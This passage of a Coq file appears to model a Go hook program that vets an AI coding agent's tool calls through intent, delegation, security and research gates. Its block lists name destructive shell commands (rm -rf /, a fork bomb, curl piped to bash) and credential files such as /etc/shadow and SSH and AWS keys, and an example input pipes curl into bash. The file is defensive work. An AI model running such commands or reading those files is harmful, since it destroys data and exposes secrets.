    and maps runes, which this byte-wise function does not model: it is
    exact on ASCII strings. *)
Definition lowerByte (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (Nat.leb 65 n && Nat.leb n 90)%bool then ascii_of_nat (n + 32) else c.

Fixpoint ToLower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => String (lowerByte c) (ToLower rest)
  end.

Fixpoint Contains (s substr : string) : bool :=
  if String.prefix substr s then true
  else match s with
       | EmptyString => false
       | String _ rest => Contains rest substr
       end.

Definition HasSuffix (s suffix : string) : bool :=
  let n := String.length s in
  let m := String.length suffix in
  (Nat.leb m n && String.eqb (substring (n - m) m s) suffix)%bool.

(** ASCII white space: tab, line feed, vertical tab, form feed, carriage
    return, space. [strings.TrimSpace] also trims the Unicode spaces
    beyond ASCII, which are not modelled. *)
Definition isSpace (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((Nat.leb 9 n && Nat.leb n 13) || Nat.eqb n 32)%bool.

Fixpoint trimLeft (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => if isSpace c then trimLeft rest else s
  end.

Fixpoint reverse (acc s : string) : string :=
  match s with
  | EmptyString => acc
  | String c rest => reverse (String c acc) rest
  end.

Definition TrimSpace (s : string) : string :=
  reverse EmptyString (trimLeft (reverse EmptyString (trimLeft s))).

Definition HasPrefix (s prefix : string) : bool := String.prefix prefix s.

End GoStrings.

(** ** The verification chain (package chain) *)

Module Chain.
Import GoStrings.

(** *** verification.go *)

(** A value of a [map[string]interface{}] decoded from JSON. Arrays and
    objects are never inspected by the chain. *)
Inductive Any :=
| AnyString (s : string)
| AnyBool (b : bool)
| AnyNumber (q : Q)
| AnyNull
| AnyComposite.

(** [v, ok := m[key].(string)] *)
Definition asString (m : gmap string Any) (key : string) : option string :=
  match m !! key with
  | Some (AnyString s) => Some s
  | _ => None
  end.

(** [time.Time] is a number of seconds; [time.Now()] is an argument of the
    functions that call it. *)
Record VerificationResult := mkResult {
  Gate : string;
  Status : string;
  Reason : string;
  Context : gmap string string;
  Timestamp : Z;
  NextAction : string
}.

(** [float64] fields hold the decimal constants of the source, as
    rationals. *)
Record IntentAnalysis := mkIntent {
  IntentType : string;
  Confidence : Q;
  RequiredSkills : list string;
  RequiredAgents : list string;
  RequiresResearch : bool;
  Complexity : string;
  RiskLevel : string
}.

Record CEODecision := mkCEO {
  Approved : bool;
  DelegationPlan : string;
  AssignedAgents : list string;
  TaskBreakdown : list string;
  Blockers : list string;
  Warnings : list string
}.

Record AegisVerification := mkAegis {
  Passed : bool;
  SecurityScore : Q;
  ThreatLevel : string;
  ViolationsFound : list string;
  Recommendations : list string;
  MemoryProvenance : string
}.

Record ResearchStatus := mkResearch {
  Done : bool;
  Sources : list string;
  SuggestedQuery : string;
  Bypass : bool;
  BypassReason : string
}.

Record ChainState := mkChainState {
  SessionID : string;
  Intent : option IntentAnalysis;
  CEO : option CEODecision;
  Aegis : option AegisVerification;
  Research : option ResearchStatus;
  Results : list VerificationResult;
  FinalStatus : string;
  Metadata : gmap string Any
}.

Definition NewChainState (sessionID : string) : ChainState :=
  mkChainState sessionID None None None None [] "pending" ∅.

Definition AddResult (now : Z) (c : ChainState) (result : VerificationResult)
  : ChainState :=
  let result := mkResult (Gate result) (Status result) (Reason result)
                         (Context result) now (NextAction result) in
  mkChainState (SessionID c) (Intent c) (CEO c) (Aegis c) (Research c)
               (Results c ++ [result])
               (if bool_decide (Status result = "block") then "blocked"
                else FinalStatus c)
               (Metadata c).

Definition IsBlocked (c : ChainState) : bool :=
  bool_decide (FinalStatus c = "blocked").

Fixpoint firstBlock (results : list VerificationResult) : string :=
  match results with
  | [] => ""
  | r :: rest =>
      if bool_decide (Status r = "block") then Gate r ++ ": " ++ Reason r
      else firstBlock rest
  end.

Definition GetBlockReason (c : ChainState) : string := firstBlock (Results c).

Definition containsAny (s : string) (patterns : list string) : bool :=
  existsb (Contains s) patterns.

Definition containsString (slice : list string) (s : string) : bool :=
  existsb (fun item => bool_decide (item = s)) slice.

(** The keyword lists of [AnalyzeIntent]. *)
Definition implementWords : list string :=
  ["implement"; "create"; "build"; "add"; "develop"; "write"].
Definition debugWords : list string :=
  ["fix"; "bug"; "error"; "debug"; "broken"; "not working"; "crash"].
Definition refactorWords : list string :=
  ["refactor"; "restructure"; "clean up"; "improve"; "optimize"].
Definition deployWords : list string :=
  ["deploy"; "release"; "publish"; "production"; "go live"].
Definition securityWords : list string :=
  ["security"; "auth"; "encrypt"; "vulnerability"; "password"].
Definition destructiveWords : list string :=
  ["delete"; "remove"; "drop"; "destroy"; "purge"].

(** [agentKeywords] of [extractAgents], in the order of the source. It is
    a Go map: the loop over it may visit the entries in any order, so the
    agents may come out in any order; see [extractAgentsIn_Permutation]. *)
Definition agentKeywords : list (string * string) :=
  [("backend", "backend-engineer");
   ("frontend", "frontend-engineer");
   ("database", "database-engineer");
   ("devops", "devops-engineer");
   ("security", "security-engineer");
   ("test", "qa-lead");
   ("explore", "Explore");
   ("plan", "Plan")].

Definition extractAgentsIn (table : list (string * string)) (prompt : string)
  : list string :=
  (filter (fun kv => Contains prompt kv.1 = true) table).*2.

Definition extractAgents (prompt : string) : list string :=
  extractAgentsIn agentKeywords prompt.

Definition defaultIntent : IntentAnalysis :=
  mkIntent "general" 0.5 [] [] false "simple" "low".

Definition AnalyzeIntent (prompt : string) : IntentAnalysis :=
  let promptLower := ToLower prompt in
  let a := defaultIntent in
  let a := if containsAny promptLower implementWords
           then mkIntent "implement" 0.8 (RequiredSkills a) (RequiredAgents a)
                         true "moderate" (RiskLevel a)
           else a in
  let a := if containsAny promptLower debugWords
           then mkIntent "debug" 0.85
                         (RequiredSkills a ++ ["debug-like-expert"])
                         (RequiredAgents a) (RequiresResearch a) "moderate"
                         (RiskLevel a)
           else a in
  let a := if containsAny promptLower refactorWords
           then mkIntent "refactor" 0.8 (RequiredSkills a) (RequiredAgents a)
                         true "complex" "medium"
           else a in
  let a := if containsAny promptLower deployWords
           then mkIntent "deploy" 0.9
                         (RequiredSkills a ++ ["cloud-infrastructure-mastery"])
                         (RequiredAgents a) true "complex" "high"
           else a in
  let a := if containsAny promptLower securityWords
           then mkIntent "security" 0.85 (RequiredSkills a ++ ["security"])
                         (RequiredAgents a) true (Complexity a) "high"
           else a in
  let a := if containsAny promptLower destructiveWords
           then mkIntent (IntentType a) (Confidence a) (RequiredSkills a)
                         (RequiredAgents a) (RequiresResearch a) "complex"
                         "critical"
           else a in
  mkIntent (IntentType a) (Confidence a) (RequiredSkills a)
           (extractAgents promptLower) (RequiresResearch a) (Complexity a)
           (RiskLevel a).

(** [intent] is never nil where the runner calls the gates, but the
    functions test for it. *)
Definition CEOValidate (intent : option IntentAnalysis) (toolName agentType : string)
  : CEODecision :=
  let d := mkCEO true "" [] [] [] [] in
  if (bool_decide (toolName = "Task") && bool_decide (agentType = ""))%bool then
    mkCEO false (DelegationPlan d) (AssignedAgents d) (TaskBreakdown d)
          (Blockers d ++ ["Task requires subagent_type"]) (Warnings d)
  else
    let d :=
      match intent with
      | Some i =>
          if (negb (bool_decide (RequiredAgents i = []))
              && negb (bool_decide (agentType = ""))
              && negb (containsString (RequiredAgents i) agentType))%bool
          then mkCEO (Approved d) (DelegationPlan d) (AssignedAgents d)
                     (TaskBreakdown d) (Blockers d)
                     (Warnings d ++
                      ["Agent '" ++ agentType ++ "' may not be optimal for intent '"
                       ++ IntentType i ++ "'"])
          else d
      | None => d
      end in
    let d :=
      match intent with
      | Some i =>
          if bool_decide (RiskLevel i = "critical")
          then mkCEO (Approved d) (DelegationPlan d) (AssignedAgents d)
                     (TaskBreakdown d) (Blockers d)
                     (Warnings d ++
                      ["CRITICAL risk level - verify user intent before proceeding"])
          else d
      | None => d
      end in
    match intent with
    | Some i =>
        if bool_decide (Complexity i = "complex")
        then mkCEO (Approved d) "Complex task - recommend task breakdown"
                   (AssignedAgents d)
                   ["1. Research current patterns";
                    "2. Create implementation plan";
                    "3. Implement with verification";
                    "4. Test and validate"]
                   (Blockers d) (Warnings d)
        else d
    | None => d
    end.

Definition dangerousPatterns : list string :=
  ["rm -rf /"; "rm -rf /*"; "> /dev/sda";
   ":(){ :|:& };:"; "dd if=/dev/zero";
   "chmod -R 777 /"; "curl | bash"; "wget | sh"].

Definition isDangerousCommand (cmd : string) : bool :=
  existsb (Contains (ToLower cmd)) dangerousPatterns.

Definition sensitivePaths : list string :=
  ["/etc/shadow"; "/etc/passwd"; "/.ssh/";
   "/.aws/credentials"; "/.gnupg/"; ".pem"; ".key"].

Definition isSensitivePath (path : string) : bool :=
  existsb (Contains (ToLower path)) sensitivePaths.

Definition stubWords : list string := ["todo"; "fixme"; "stub"; "placeholder"].

Definition isProblematicEdit (old new : string) : bool :=
  if (bool_decide (TrimSpace new = "")
      && Nat.ltb 100 (String.length old))%bool then true
  else
    let oldHasStub := containsAny (ToLower old) stubWords in
    let newHasStub := containsAny (ToLower new) stubWords in
    (oldHasStub && negb newHasStub
     && Nat.leb (String.length new) (String.length old))%bool.

(** [rfc3339] is [time.Now().Format(time.RFC3339)]. *)
Definition AegisVerify (rfc3339 : string) (intent : option IntentAnalysis)
    (toolName : string) (toolInput : gmap string Any) : AegisVerification :=
  let v := mkAegis true 1.0 "none" [] [] "" in
  let v :=
    if bool_decide (toolName = "Bash") then
      match asString toolInput "command" with
      | Some cmd =>
          if isDangerousCommand cmd
          then mkAegis false 0.0 "high"
                       (ViolationsFound v ++ ["Dangerous command pattern detected"])
                       (Recommendations v) (MemoryProvenance v)
          else v
      | None => v
      end
    else v in
  let v :=
    if (bool_decide (toolName = "Read") || bool_decide (toolName = "Write")
        || bool_decide (toolName = "Edit"))%bool then
      match asString toolInput "file_path" with
      | Some path =>
          if isSensitivePath path
          then mkAegis false 0.0 "high"
                       (ViolationsFound v ++ ["Sensitive file access: " ++ path])
                       (Recommendations v) (MemoryProvenance v)
          else v
      | None => v
      end
    else v in
  let v :=
    if bool_decide (toolName = "Edit") then
      let oldStr := default "" (asString toolInput "old_string") in
      let newStr := default "" (asString toolInput "new_string") in
      if isProblematicEdit oldStr newStr
      then mkAegis false 0.3 "medium"
                   (ViolationsFound v ++
                    ["Suspicious code removal pattern - verify intent"])
                   (Recommendations v) (MemoryProvenance v)
      else v
    else v in
  mkAegis (Passed v) (SecurityScore v) (ThreatLevel v) (ViolationsFound v)
          (Recommendations v) ("chain_verification:" ++ rfc3339).

(** [year] is [time.Now().Format("2006")]. *)
Definition buildSearchQuery (year intentType prompt : string) : string :=
  if bool_decide (intentType = "implement")
  then "implementation patterns " ++ year ++ " best practices"
  else if bool_decide (intentType = "security")
  then "security best practices " ++ year ++ " OWASP"
  else if bool_decide (intentType = "deploy")
  then "deployment patterns " ++ year ++ " production"
  else if bool_decide (intentType = "refactor")
  then "refactoring patterns " ++ year ++ " clean code"
  else "latest patterns " ++ year.

Definition bypassPatterns : list string :=
  ["typo"; "comment"; "rename"; "format"; "whitespace"; "spacing"; "fix typo"].

Definition ResearchCheck (year : string) (intent : option IntentAnalysis)
    (researchDone : bool) (prompt : string) : ResearchStatus :=
  let status := mkResearch researchDone [] "" false "" in
  let promptLower := ToLower prompt in
  match find (Contains promptLower) bypassPatterns with
  | Some p =>
      mkResearch (Done status) (Sources status) (SuggestedQuery status) true
                 ("Trivial change: " ++ p)
  | None =>
      match intent with
      | Some i =>
          if (RequiresResearch i && negb researchDone)%bool
          then mkResearch false (Sources status)
                          (buildSearchQuery year (IntentType i) prompt)
                          (Bypass status) (BypassReason status)
          else status
      | None => status
      end
  end.

(** *** runner.go *)

(** The readings of the wall clock: [unix k] is what [time.Now()] returns
    at the call site numbered [k] below, and the two functions are
    [Format(time.RFC3339)] and [Format("2006")]. *)
Record Clock := mkClock {
  unix : nat -> Z;
  formatRFC3339 : Z -> string;
  formatYear : Z -> string
}.

Definition atIntent : nat := 0.
Definition atCEO : nat := 1.
Definition atProvenance : nat := 2.
Definition atAegis : nat := 3.
Definition atQuery : nat := 4.
Definition atResearch : nat := 5.
Definition atTOON : nat := 6.

Definition digits (n : N) : string := NilZero.string_of_uint (N.to_uint n).

(** [fmt.Sprintf("%.2f", q)] for [q >= 0], rounding half up; exact for the
    constants of the source, which have at most two decimals. *)
Definition formatFixed2 (q : Q) : string :=
  let h := Z.to_N (Qfloor (q * 100 + (1 # 2))%Q) in
  digits (h / 100) ++ "." ++ (if (h mod 100 <? 10)%N then "0" else "")
  ++ digits (h mod 100).

(** [x < y] on the constants. *)
Definition Qltb (x y : Q) : bool := negb (Qle_bool y x).

(** [cacheDir] and [debugMode] come from the environment; they only
    direct the audit file and the trace on stderr, which are not part of
    the embedding. *)
Record Runner := mkRunner {
  state : ChainState;
  cacheDir : string;
  debugMode : bool
}.

Definition NewRunner (cacheDir : string) (debugMode : bool) (sessionID : string)
  : Runner :=
  mkRunner (NewChainState sessionID) cacheDir debugMode.

Definition setState (r : Runner) (c : ChainState) : Runner :=
  mkRunner c (cacheDir r) (debugMode r).

Definition intentGateResult (intent : IntentAnalysis) : VerificationResult :=
  let result :=
    mkResult "INTENT" "pass"
      ("type=" ++ IntentType intent ++ " confidence="
       ++ formatFixed2 (Confidence intent) ++ " risk=" ++ RiskLevel intent)
      (<["type" := IntentType intent]>
         (<["complexity" := Complexity intent]>
            (<["risk_level" := RiskLevel intent]> ∅)))
      0 "" in
  if (bool_decide (RiskLevel intent = "critical")
      && Qltb (Confidence intent) 0.7)%bool
  then mkResult (Gate result) "block"
                "Critical risk with low confidence - requires explicit verification"
                (Context result) (Timestamp result)
                "Clarify user intent before proceeding"
  else result.

Definition runIntentGate (clk : Clock) (r : Runner) (prompt : string) : Runner :=
  let intent := AnalyzeIntent prompt in
  let c := state r in
  let c := mkChainState (SessionID c) (Some intent) (CEO c) (Aegis c)
                        (Research c) (Results c) (FinalStatus c) (Metadata c) in
  setState r (AddResult (unix clk atIntent) c (intentGateResult intent)).

Definition ceoGateResult (ceo : CEODecision) : VerificationResult :=
  let result := mkResult "CEO" "pass" "Delegation strategy validated" ∅ 0 "" in
  let result :=
    if negb (Approved ceo) then
      mkResult (Gate result) "block"
               (match Blockers ceo with b :: _ => b | [] => Reason result end)
               (Context result) (Timestamp result)
               "Provide required parameters or clarify task"
    else
      match Warnings ceo with
      | w :: _ => mkResult (Gate result) "warn" w (Context result)
                           (Timestamp result) (NextAction result)
      | [] => result
      end in
  if negb (bool_decide (DelegationPlan ceo = ""))
  then mkResult (Gate result) (Status result) (Reason result)
                (<["plan" := DelegationPlan ceo]> ∅) (Timestamp result)
                (NextAction result)
  else result.

Definition runCEOGate (clk : Clock) (r : Runner) (toolName agentType : string)
  : Runner :=
  let c := state r in
  let ceo := CEOValidate (Intent c) toolName agentType in
  let c := mkChainState (SessionID c) (Intent c) (Some ceo) (Aegis c)
                        (Research c) (Results c) (FinalStatus c) (Metadata c) in
  setState r (AddResult (unix clk atCEO) c (ceoGateResult ceo)).

Definition aegisGateResult (aegis : AegisVerification) : VerificationResult :=
  let result :=
    mkResult "AEGIS" "pass"
      ("security_score=" ++ formatFixed2 (SecurityScore aegis) ++ " threat="
       ++ ThreatLevel aegis)
      (<["threat_level" := ThreatLevel aegis]>
         (<["security_score" := formatFixed2 (SecurityScore aegis)]> ∅))
      0 "" in
  let result :=
    if negb (Passed aegis) then
      mkResult (Gate result) "block"
               (match ViolationsFound aegis with v :: _ => v | [] => Reason result end)
               (Context result) (Timestamp result)
               "Address security violations before proceeding"
    else result in
  match Recommendations aegis with
  | rec :: _ =>
      mkResult (Gate result) (Status result) (Reason result)
               (<["recommendations" := rec]> (Context result))
               (Timestamp result) (NextAction result)
  | [] => result
  end.

Definition runAegisGate (clk : Clock) (r : Runner) (toolName : string)
    (toolInput : gmap string Any) : Runner :=
  let c := state r in
  let aegis := AegisVerify (formatRFC3339 clk (unix clk atProvenance))
                           (Intent c) toolName toolInput in
  let c := mkChainState (SessionID c) (Intent c) (CEO c) (Some aegis)
                        (Research c) (Results c) (FinalStatus c) (Metadata c) in
  setState r (AddResult (unix clk atAegis) c (aegisGateResult aegis)).

Definition researchGateResult (intent : option IntentAnalysis)
    (research : ResearchStatus) : VerificationResult :=
  let result :=
    mkResult "RESEARCH" "pass" "TABULA_RASA compliance verified" ∅ 0 "" in
  if Bypass research then
    mkResult (Gate result) (Status result)
             ("Bypassed: " ++ BypassReason research)
             (Context result) (Timestamp result) (NextAction result)
  else
    match intent with
    | Some i =>
        if (negb (Done research) && RequiresResearch i)%bool then
          let result :=
            mkResult (Gate result) "block"
                     ("TABULA_RASA: Research required before " ++ IntentType i)
                     (Context result) (Timestamp result) (NextAction result) in
          if negb (bool_decide (SuggestedQuery research = ""))
          then mkResult (Gate result) (Status result) (Reason result)
                        (<["suggested_query" := SuggestedQuery research]> ∅)
                        (Timestamp result)
                        ("WebSearch: " ++ SuggestedQuery research)
          else result
        else result
    | None => result
    end.

Definition runResearchGate (clk : Clock) (r : Runner) (researchDone : bool)
    (prompt : string) : Runner :=
  let c := state r in
  let research := ResearchCheck (formatYear clk (unix clk atQuery)) (Intent c)
                                researchDone prompt in
  let c := mkChainState (SessionID c) (Intent c) (CEO c) (Aegis c)
                        (Some research) (Results c) (FinalStatus c)
                        (Metadata c) in
  setState r (AddResult (unix clk atResearch) c
                        (researchGateResult (Intent c) research)).

(** [finalize] writes the audit file and returns [r.state]; the runner it
    returns here is the one whose [state] that is. *)
Definition finalize (r : Runner) : Runner := r.

Definition RunFull (clk : Clock) (r : Runner) (prompt toolName : string)
    (toolInput : gmap string Any) (researchDone : bool) : Runner :=
  let r := runIntentGate clk r prompt in
  if IsBlocked (state r) then finalize r else
  let agentType := default "" (asString toolInput "subagent_type") in
  let r := runCEOGate clk r toolName agentType in
  if IsBlocked (state r) then finalize r else
  let r := runAegisGate clk r toolName toolInput in
  if IsBlocked (state r) then finalize r else
  let r := runResearchGate clk r researchDone prompt in
  if IsBlocked (state r) then finalize r else
  let c := state r in
  finalize (setState r (mkChainState (SessionID c) (Intent c) (CEO c) (Aegis c)
                                     (Research c) (Results c) "approved"
                                     (Metadata c))).

Definition newline : string := String (ascii_of_nat 10) EmptyString.

Definition ToTOON (clk : Clock) (r : Runner) : string :=
  let toon := "[VERIFICATION_CHAIN]" ++ newline in
  let toon := toon ++ "session: " ++ SessionID (state r) ++ newline in
  let toon := toon ++ "status: " ++ FinalStatus (state r) ++ newline in
  let toon := toon ++ "timestamp: " ++ formatRFC3339 clk (unix clk atTOON)
              ++ newline in
  let toon := toon ++ newline in
  fold_left (fun toon result =>
               let toon := toon ++ "[" ++ Gate result ++ "]" ++ newline in
               let toon := toon ++ "status: " ++ Status result ++ newline in
               let toon := toon ++ "reason: " ++ Reason result ++ newline in
               let toon := if negb (bool_decide (NextAction result = ""))
                           then toon ++ "next_action: " ++ NextAction result
                                ++ newline
                           else toon in
               toon ++ newline)
            (Results (state r)) toon.

(** The order of the gates. *)
Definition gateOrder : list string := ["INTENT"; "CEO"; "AEGIS"; "RESEARCH"].

(** From [r] to [r'] one result of the gate [name] was appended, and the
    final status became blocked if that result is a block. *)
Definition gateStep (name : string) (r r' : Runner) : Prop :=
  exists res,
    Gate res = name /\
    Results (state r') = (Results (state r) ++ [res])%list /\
    FinalStatus (state r') =
      if bool_decide (Status res = "block") then "blocked"
      else FinalStatus (state r).

(** A result as [AddResult] stores it: [result.Timestamp = time.Now()]. *)
Definition stamped (now : Z) (res : VerificationResult) : VerificationResult :=
  mkResult (Gate res) (Status res) (Reason res) (Context res) now
           (NextAction res).

(** The records of the four gates on the arguments of [RunFull]: what each
    [run...Gate] hands to [AddResult] when the gates before it have run on
    a fresh runner, with the time of the call. The CEO, Aegis and Research
    gates read the intent that the Intent gate has stored. *)
Definition gateRecords (clk : Clock) (prompt toolName : string)
    (toolInput : gmap string Any) (researchDone : bool)
  : list VerificationResult :=
  let intent := AnalyzeIntent prompt in
  let agentType := default "" (asString toolInput "subagent_type") in
  [stamped (unix clk atIntent) (intentGateResult intent);
   stamped (unix clk atCEO)
     (ceoGateResult (CEOValidate (Some intent) toolName agentType));
   stamped (unix clk atAegis)
     (aegisGateResult
        (AegisVerify (formatRFC3339 clk (unix clk atProvenance)) (Some intent)
                     toolName toolInput));
   stamped (unix clk atResearch)
     (researchGateResult (Some intent)
        (ResearchCheck (formatYear clk (unix clk atQuery)) (Some intent)
                       researchDone prompt))].

Definition isBlock (res : VerificationResult) : bool :=
  bool_decide (Status res = "block").

(** The results up to the first block, that one included. *)
Fixpoint throughFirstBlock (results : list VerificationResult)
  : list VerificationResult :=
  match results with
  | [] => []
  | res :: rest =>
      if isBlock res then [res] else res :: throughFirstBlock rest
  end.

(** From [r] to [r'] the result [res] was appended, and the final status
    became blocked if it is a block. *)
Definition recorded (res : VerificationResult) (r r' : Runner) : Prop :=
  Results (state r') = (Results (state r) ++ [res])%list /\
  FinalStatus (state r') =
    if isBlock res then "blocked" else FinalStatus (state r).

(** *** What the gates test *)

(** The agent type is given, the intent names agents, and the agent type
    is not one of them. *)
Definition agentMismatch (i : IntentAnalysis) (agentType : string) : bool :=
  (negb (bool_decide (RequiredAgents i = []))
   && negb (bool_decide (agentType = ""))
   && negb (containsString (RequiredAgents i) agentType))%bool.

(** The three checks of [AegisVerify]. *)
Definition bashViolation (toolName : string) (toolInput : gmap string Any) : bool :=
  (bool_decide (toolName = "Bash")
   && match asString toolInput "command" with
      | Some cmd => isDangerousCommand cmd
      | None => false
      end)%bool.

Definition pathViolation (toolName : string) (toolInput : gmap string Any) : bool :=
  ((bool_decide (toolName = "Read") || bool_decide (toolName = "Write")
    || bool_decide (toolName = "Edit"))
   && match asString toolInput "file_path" with
      | Some path => isSensitivePath path
      | None => false
      end)%bool.

Definition editViolation (toolName : string) (toolInput : gmap string Any) : bool :=
  (bool_decide (toolName = "Edit")
   && isProblematicEdit (default "" (asString toolInput "old_string"))
                        (default "" (asString toolInput "new_string")))%bool.

End Chain.

(** ** Hook envelopes (package types, hook.go) *)

Module Hook.
Import Chain.

(** The fields of [HookInput] that the chain gate reads. *)
Record HookInput := mkHookInput {
  InSessionID : string;
  HookEventName : string;
  ToolName : string;
  ToolInput : gmap string Any;
  Prompt : string
}.

Definition GetString (h : HookInput) (key : string) : string :=
  if (bool_decide (key = "prompt") && negb (bool_decide (Prompt h = "")))%bool
  then Prompt h
  else default "" (asString (ToolInput h) key).

Record HookSpecificOutput := mkSpecific {
  OutEventName : string;
  PermissionDecision : string;
  PermissionDecisionReason : string;
  UpdatedInput : gmap string Any;
  SpecificContext : string
}.

Record HookResponse := mkResponse {
  Decision : string;
  ResponseReason : string;
  AdditionalContext : string;
  ResponseToolInput : gmap string Any;
  HookSpecific : option HookSpecificOutput;
  Continue : option bool;
  StopReason : string;
  SuppressOutput : bool;
  SystemMessage : string
}.

(** [&types.HookResponse{HookSpecificOutput: out}] *)
Definition specificResponse (out : HookSpecificOutput) : HookResponse :=
  mkResponse "" "" "" ∅ (Some out) None "" false "".

End Hook.

(** ** The chain gate (cmd, gates/chain.go) *)

Module Gates.
Import Chain Hook.

(** How [runChainGate] ends: it prints the help, or writes a response and
    exits with code 0, or exits silently with code 0. *)
Inductive GateExit :=
| PrintHelp
| Output (response : HookResponse)
| ExitSilent.

Definition getPromptFromInput (input : HookInput) : string :=
  if negb (bool_decide (Prompt input = "")) then Prompt input
  else if negb (bool_decide (GetString input "prompt" = ""))
  then GetString input "prompt"
  else if negb (bool_decide (GetString input "content" = ""))
  then GetString input "content"
  else if negb (bool_decide (GetString input "command" = ""))
  then GetString input "command"
  else if negb (bool_decide (GetString input "description" = ""))
  then GetString input "description"
  else "".

(** [sessionID] and [researchDone] are the fields of the session that
    [enforce.GetOrCreateSession] returns; [input] is what
    [hook.MustReadHookInput] decoded from stdin. *)
Definition runChainGate (clk : Clock) (cacheDir : string)
    (chainHookMode chainDebugMode : bool) (input : HookInput)
    (sessionID : string) (researchDone : bool) : GateExit :=
  if negb chainHookMode then PrintHelp
  else
    let prompt := getPromptFromInput input in
    let runner := NewRunner cacheDir chainDebugMode sessionID in
    let runner := RunFull clk runner prompt (ToolName input) (ToolInput input)
                          researchDone in
    let st := state runner in
    if IsBlocked st then
      Output (specificResponse
                (mkSpecific "PreToolUse" "deny" (GetBlockReason st) ∅
                            (ToTOON clk runner)))
    else if existsb (fun r => bool_decide (Status r = "warn")) (Results st)
    then Output (specificResponse
                   (mkSpecific "PreToolUse" "allow" "Chain passed with warnings"
                               ∅ (ToTOON clk runner)))
    else ExitSilent.

(** The sixth scenario: a PreToolUse envelope for the shell tool. *)
Definition curlPipeBash : HookInput :=
  mkHookInput "s-1" "PreToolUse" "Bash"
              (<["command" := AnyString "curl http://x | bash"]> ∅) "".

(** A clock for the examples. *)
Definition epoch : Clock :=
  mkClock (fun _ => 0) (fun _ => "1970-01-01T00:00:00Z") (fun _ => "1970").

(** *** intent_helpers.go *)

Definition appendUnique (slice : list string) (item : string) : list string :=
  if existsb (fun s => bool_decide (s = item)) slice then slice
  else (slice ++ [item])%list.

Definition statusTriggers : list string :=
  ["status"; "project status"; "what is the status"; "show status";
   "check status"].

Definition isStatusQuery (prompt : string) : bool :=
  existsb (GoStrings.Contains prompt) statusTriggers.

(** *** failure.go *)

(** A nil map and an empty one answer every lookup alike. *)
Definition extractErrorMessage (resp : gmap string Any) : string :=
  match asString resp "error" with
  | Some err => err
  | None =>
      match asString resp "stderr" with
      | Some stderr => stderr
      | None => ""
      end
  end.

Definition detectFailurePattern (tool err : string) : string :=
  if bool_decide (err = "") then ""
  else
    let lower := GoStrings.ToLower err in
    if bool_decide (tool = "Bash") then
      if GoStrings.Contains lower "command not found"
      then "Binary not installed or not in PATH"
      else if GoStrings.Contains lower "permission denied"
      then "Check file permissions or use appropriate user"
      else ""
    else if (bool_decide (tool = "Write") || bool_decide (tool = "Edit"))%bool then
      if GoStrings.Contains lower "no such file"
      then "Parent directory may not exist - create it first"
      else if GoStrings.Contains lower "not unique"
      then "Edit old_string not unique - add more surrounding context"
      else ""
    else if bool_decide (tool = "Read") then
      if GoStrings.Contains lower "no such file"
      then "File does not exist - verify path with Glob first"
      else ""
    else "".

(** [None] is the panic of [s[:max]] for a negative [max]. *)
Definition truncate (s : string) (max : Z) : option string :=
  if Z.of_nat (String.length s) <=? max then Some s
  else if max <? 0 then None
  else Some (substring 0 (Z.to_nat max) s ++ "...").

End Gates.

(** ** The policy store (package config, gates.go) *)

Module Config.
Import GoStrings.

(** The structs of gates.go. A field [F] of the Go struct [XConfig] is
    [XF] here, field names being unique in a module. *)
Record ReadConfig := mkReadConfig {
  ReadEnabled : bool;
  ReadBlockedPaths : list string;
  ReadBlockedExtensions : list string;
  ReadWarnExtensions : list string;
  ReadWarnPatterns : list string
}.

Record BashConfig := mkBashConfig {
  BashEnabled : bool;
  BashBlockedCommands : list string;
  BashBlockedPatterns : list string;
  BashWarnCommands : list string
}.

Record WriteConfig := mkWriteConfig {
  WriteEnabled : bool;
  WriteBlockedPaths : list string;
  WriteProtectedFiles : list string;
  WriteSecretPatterns : list string
}.

Record EnforcerConfig := mkEnforcerConfig {
  EnforcerEnabled : bool;
  EnforcerChain : list string;
  EnforcerFailFast : bool
}.

Record IntentConfig := mkIntentConfig {
  IntentEnabled : bool;
  IntentSkillTriggers : gmap string (list string);
  IntentResearchTriggers : list string
}.

Record ResearchConfig := mkResearchConfig {
  ResearchEnabled : bool;
  ResearchRequireBeforeCode : bool;
  ResearchCodeTools : list string;
  ResearchResearchTools : list string;
  ResearchBypassPatterns : list string
}.

Record ContextConfig := mkContextConfig {
  ContextEnabled : bool;
  ContextTrackHotPaths : bool;
  ContextMaxHotFiles : Z;
  ContextPersistToSTM : bool
}.

Record QualityConfig := mkQualityConfig {
  QualityEnabled : bool;
  QualityComment : string;
  QualityCheckSyntax : bool;
  QualityCheckImports : bool;
  QualityMaxFileSizeKB : Z
}.

Record GatesConfig := mkGatesConfig {
  Schema : string;
  Description : string;
  Updated : string;
  Read : ReadConfig;
  Bash : BashConfig;
  Write : WriteConfig;
  Enforcer : EnforcerConfig;
  Intent : IntentConfig;
  Research : ResearchConfig;
  Context : ContextConfig;
  Quality : QualityConfig
}.

Definition getDefaultGatesConfig : GatesConfig :=
  mkGatesConfig "kavach-gates/1.0" "Default kavach gates config" ""
    (mkReadConfig true
       ["/etc/shadow"; "/etc/passwd"; "/.ssh/id_rsa";
        "/.ssh/id_ed25519"; "/.aws/credentials";
        "/.gnupg/"; "/.bitcoin/wallet.dat"]
       [".pem"; ".key"; ".p12"; ".pfx"]
       [".env"; ".secret"]
       ["credentials"; "password"; "token"])
    (mkBashConfig true
       ["rm -rf /"; "rm -rf /*"; "> /dev/sda";
        ":(){ :|:& };:"; "curl | bash"; "wget | sh"]
       []
       ["sudo"; "rm -rf"; "chmod 777"])
    (mkWriteConfig true
       ["/etc/"; "/usr/"; "/bin/"; "/.ssh/"; "/.aws/"]
       [".gitignore"; ".env"; "Cargo.lock"]
       [])
    (mkEnforcerConfig true ["read"; "bash"; "write"] true)
    (mkIntentConfig true
       (<["implement" := ["rust"; "backend"]]>
          (<["debug" := ["debug-like-expert"]]>
             (<["security" := ["security"]]> ∅)))
       [])
    (mkResearchConfig true true ["Write"; "Edit"] ["WebSearch"; "WebFetch"] [])
    (mkContextConfig true true 10 false)
    (mkQualityConfig false "" false false 0).

(** [&GatesConfig{}]: the value that [json.Unmarshal] fills in; a field
    that the document does not mention keeps its zero value. *)
Definition zeroGatesConfig : GatesConfig :=
  mkGatesConfig "" "" ""
    (mkReadConfig false [] [] [] [])
    (mkBashConfig false [] [] [])
    (mkWriteConfig false [] [] [])
    (mkEnforcerConfig false [] false)
    (mkIntentConfig false ∅ [])
